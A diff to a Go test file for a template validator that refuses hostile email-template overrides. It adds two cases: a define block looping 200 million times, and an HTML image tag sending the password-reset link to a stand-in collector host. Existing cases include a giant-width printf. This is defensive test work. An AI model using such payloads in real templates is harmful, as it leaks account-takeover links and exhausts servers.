@@ -31,6 +31,8 @@ func TestHostileOverridesAreRefused(t *testing.T) {
 		{"range over a field", "otp.email.text", "x\n{{range .Code}}y{{end}}", []string{"range", "at line 2, column 1:"}},
 		{"with", "otp.email.text", "{{with .Code}}{{.}}{{end}}", []string{"with is not allowed"}},
 		{"define", "otp.email.text", `{{define "x"}}{{.Code}}{{end}}{{.Code}}`, []string{"define is not allowed"}},
+		{"define named like the part", "reset_link.email.subject", `{{define "reset_link.email.subject"}}{{range 200000000}}{{end}}{{end}}`, []string{"define is not allowed"}},
+		{"define named like the part, html", "reset_link.email.html", `{{define "reset_link.email.html"}}<img src="https://collector.example/{{.Link}}">{{end}}`, []string{"define is not allowed"}},
 		{"template", "otp.email.text", `{{template "otp.email.text" .}}`, []string{"template is not allowed"}},
 		{"block", "otp.email.text", `{{block "b" .}}{{.Code}}{{end}}`, []string{"not allowed"}},
 		{"function call", "otp.email.text", "{{printf \"%0999999d\" 1}}", []string{`function call "printf"`}},
